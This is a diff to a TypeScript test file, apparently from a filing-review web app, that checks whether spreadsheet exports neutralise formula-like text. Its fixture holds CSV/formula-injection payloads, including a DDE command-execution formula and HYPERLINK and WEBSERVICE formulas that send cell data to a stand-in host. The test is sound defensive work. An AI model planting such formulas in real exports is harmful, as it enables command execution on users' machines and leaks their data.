@@ -8,7 +8,8 @@ import { type EndpointId, endpoints } from '#core/api/table.ts'
 import type { Actor } from '#server/actions/actor.ts'
 import { readCsv, streamCsv } from '#workbook/csv.ts'
 import { fillTemplate } from '#workbook/fill.ts'
-import { owner, qianJin, wangFang, zhouTao } from '../server/cast.ts'
+import { owner, qianJin, shiLi, wangFang, zhouTao } from '../server/cast.ts'
+import { assessed, faGai, jingWei, staged } from '../server/filing/stage.ts'
 import { answer, type Call, call, type TestApp, testApp } from '../server/http/test-app.ts'
 import { batchOf, cycle, firmFields, firmRow, parcelFields, parcelRow } from '../server/rows.ts'
 import { workbookWith } from '../server/upload/workbook-parts.ts'
@@ -72,8 +73,39 @@ interface Export {
 
 const codes = formulas.map((_, index) => codeOf(index))
 
+/** Of one filing, by label: whatever a text takes. */
+const filingTexts = {
+  项目名称: '=1+1',
+  项目单位: "=cmd|'/c calc'!A1",
+  项目地址: '@SUM(1)',
+  改造内容: '=HYPERLINK("http://192.0.2.1/?x="&A1,"点我")',
+  主要污染物: '-2+3',
+  正面清单条款: '{=1+1}',
+}
+const noteTyped = '=WEBSERVICE("http://192.0.2.1/")'
+const commentTyped = '+1+1'
+
+/** A filing in 联审 whose texts are formulas; its id. */
+async function filingWithFormulas(app: TestApp): Promise<string> {
+  const filing = await staged(app, filingTexts)
+  await filing.act(shiLi, { kind: 'submit' }, { documents: ['boundary', 'title', 'contract'] })
+  await filing.act(jingWei, { kind: 'accept' })
+  const act = assessed('inside-kept')
+  const answers = 'answers' in act ? act.answers.map((each) => ({ ...each, note: noteTyped })) : []
+  await filing.act(
+    jingWei,
+    { ...act, ...('answers' in act ? { answers } : {}) },
+    { documents: ['preliminary-opinion'] },
+  )
+  await filing.toStamped()
+  await filing.act(jingWei, { kind: 'open-review', invited: [{ reviewer: 'reform', dueDay: '2026-11-30' }] })
+  const opinion = { kind: 'give-opinion', reviewer: 'reform', opinion: '同意' } as const
+  await filing.act(faGai, opinion, { comment: commentTyped })
+  return filing.id
+}
+
 /** Every endpoint that answers with a file. A new one fails the test until it has a line here. */
-const exports: Readonly<Partial<Record<EndpointId, Export | 'holds nothing typed' | 'not built'>>> = {
+const exports: Readonly<Partial<Record<EndpointId, Export | 'holds nothing typed'>>> = {
   exportLedger: { by: zhouTao, request: { query: { cycle } }, holds: [...codes, ...formulas] },
   exportResults: { by: zhouTao, request: { params: { id: '1' } }, holds: codes },
   issueInvitations: {
@@ -85,14 +117,19 @@ const exports: Readonly<Partial<Record<EndpointId, Export | 'holds nothing typed
   template: 'holds nothing typed',
   // The file as somebody sent it.
   filingDocument: 'holds nothing typed',
-  filingSheet: 'not built',
-  filingReviewTable: 'not built',
-  filingHandover: 'not built',
-  exportFilings: 'not built',
+  filingSheet: {
+    by: zhouTao,
+    request: { params: { version: '1' }, query: { format: 'xlsx' } },
+    holds: [...Object.values(filingTexts), noteTyped],
+  },
+  filingReviewTable: { by: zhouTao, request: { query: { format: 'xlsx' } }, holds: [commentTyped] },
+  filingHandover: { by: zhouTao, request: {}, holds: Object.values(filingTexts) },
+  exportFilings: { by: zhouTao, request: {}, holds: [filingTexts.项目名称, filingTexts.项目单位] },
 }
 
-async function fileOf(app: TestApp, id: EndpointId, { by, request }: Export): Promise<Uint8Array> {
-  const response = await call(app, by, id, request)
+async function fileOf(app: TestApp, id: EndpointId, { by, request }: Export, filing = ''): Promise<Uint8Array> {
+  const params = id.startsWith('filing') ? { id: filing } : {}
+  const response = await call(app, by, id, { ...request, params: { ...params, ...request.params } })
   expect(response.status, id).toBe(200)
   return response.bytes()
 }
@@ -104,20 +141,12 @@ it('凡答复文件的接口都在上面的表里', () => {
   expect(Object.keys(exports).sort()).toEqual(binary.sort())
 })
 
-it('还没有做的导出一旦做成，这张表里要有它会带出的文字', async () => {
-  const app = await testApp()
-  for (const [id, one] of Object.entries(exports) as [EndpointId, Export | string][]) {
-    if (one !== 'not built') continue
-    const request = { params: { id: 'x', version: '1' }, query: { format: 'xlsx' } }
-    expect((await call(app, zhouTao, id, request)).status, id).toBe(503)
-  }
-})
-
 it('导出的每个工作簿：公式样的文字在 LibreOffice 里重算后仍是一字不差的文字，没有一个公式', async () => {
   const app = await district()
+  const filing = await filingWithFormulas(app)
   for (const [id, one] of Object.entries(exports) as [EndpointId, Export | string][]) {
     if (typeof one === 'string' || id === 'exportAudit') continue
-    const bytes = await fileOf(app, id, one)
+    const bytes = await fileOf(app, id, one, filing)
     for (const [by, cells] of [
       ['我们', cellsIn(bytes)],
       ['LibreOffice', cellsIn(await savedByLibreOffice(bytes, 'xlsx'))],
